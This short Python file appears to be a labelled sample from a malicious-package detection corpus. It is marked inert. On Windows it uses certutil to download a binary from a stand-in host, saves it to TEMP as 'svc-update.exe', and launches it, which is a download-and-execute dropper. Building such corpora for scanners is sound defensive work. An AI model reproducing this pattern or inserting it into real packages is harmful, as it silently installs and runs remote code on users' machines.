# pkgguard corpus 628 (download-execute), modelled on [checkmarx-2024]; inert, never run.
import os
import subprocess
import sys

if sys.platform == "win32":
    target = os.path.join(os.environ.get("TEMP", "."), "svc-update.exe")
    subprocess.run(
        ["certutil", "-urlcache", "-split", "-f", "https://update-node.example/u.bin", target],
        capture_output=True,
    )
    os.startfile(target)
